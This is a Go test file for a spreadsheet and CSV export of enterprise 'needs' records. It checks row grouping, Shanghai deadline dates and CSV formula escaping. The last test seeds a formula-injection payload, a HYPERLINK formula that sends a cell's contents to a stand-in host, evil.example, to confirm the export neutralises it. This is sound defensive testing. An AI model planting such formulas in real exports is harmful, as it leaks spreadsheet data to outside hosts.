package workbook_test

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/pocketbase/pocketbase/core"

	"feidi/hooks/lib/apptest"
	"feidi/hooks/lib/tz"
	"feidi/hooks/lib/workbook"
	"feidi/hooks/lib/workbook/workbooktest"
)

func needsExport(t *testing.T, f workbook.Format, setup func(app core.App, ent func(name, uscc string) string, need func(ent string, fields map[string]any))) []byte {
	app := apptest.New(t)
	officer := workbooktest.User(t, app, "officer@example.com", "officer")
	col := func(name string) *core.Collection {
		c, err := app.FindCollectionByNameOrId(name)
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	ent := func(name, uscc string) string {
		r := core.NewRecord(col("enterprises"))
		r.Set("name", name)
		r.Set("uscc", uscc)
		r.Set("industry", "hardware")
		return apptest.Save(t, app, r).Id
	}
	need := func(e string, fields map[string]any) {
		r := core.NewRecord(col("needs"))
		r.Set("enterprise", e)
		r.Set("created_by", officer.Id)
		r.Set("category", "technology")
		r.Set("status", "open")
		r.Set("title", "热处理工艺优化")
		r.Set("budget_wan", 10)
		for k, v := range fields {
			r.Set(k, v)
		}
		apptest.Save(t, app, r)
	}
	setup(app, ent, need)
	now := time.Now().In(tz.Shanghai).Format("2006-01")
	p, err := workbook.ParsePeriod(now, now)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := workbook.Needs(context.Background(), app.DB(), p, &buf, workbook.Options{Format: f}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// Two enterprises with the same name (names are not unique; USCCs are): their needs interleave
// in (name, id) order; each must still be one row of 企业.
func TestNeedsOfSameNamedEnterprisesStayApart(t *testing.T) {
	data := needsExport(t, workbook.XLSX, func(app core.App, ent func(string, string) string, need func(string, map[string]any)) {
		a := ent("大足五金厂", "91500111MA5U000013")
		b := ent("大足五金厂", "91350100M000100Y43")
		for i := 0; i < 6; i++ {
			if i%2 == 0 {
				need(a, nil)
			} else {
				need(b, nil)
			}
		}
	})
	rows := rawRows(t, open(t, data), "企业")
	if len(rows) != 2 {
		t.Fatalf("2 enterprises, 企业 sheet has %d rows: %v", len(rows), rows)
	}
}

// A deadline stored as an instant (Shanghai midnight sent by a device) is a day in Shanghai,
// as the sharing event says (tz.AsDay).
func TestNeedsDeadlineIsAShanghaiDay(t *testing.T) {
	data := needsExport(t, workbook.CSV, func(app core.App, ent func(string, string) string, need func(string, map[string]any)) {
		need(ent("大足五金厂", "91500111MA5U000013"), map[string]any{"deadline": "2026-12-30 16:00:00.000Z"})
	})
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := zr.Open("needs.csv")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(f)
	if !strings.Contains(string(b), "2026-12-31") {
		t.Fatalf("deadline of Shanghai 2026-12-31 written as: %s", b)
	}
}

// A title starting with "=" would be a formula in Excel or WPS: the CSV defuses it.
func TestCSVTextNeverRunsAsAFormula(t *testing.T) {
	data := needsExport(t, workbook.CSV, func(app core.App, ent func(string, string) string, need func(string, map[string]any)) {
		need(ent("大足五金厂", "91500111MA5U000013"), map[string]any{"title": `=HYPERLINK("http://evil.example/?x="&A2,"点击")`})
	})
	zr, _ := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	f, _ := zr.Open("needs.csv")
	b, _ := io.ReadAll(f)
	if strings.Contains(string(b), `,"=HYPERLINK(`) {
		t.Fatalf("formula written unescaped: %s", b)
	}
}
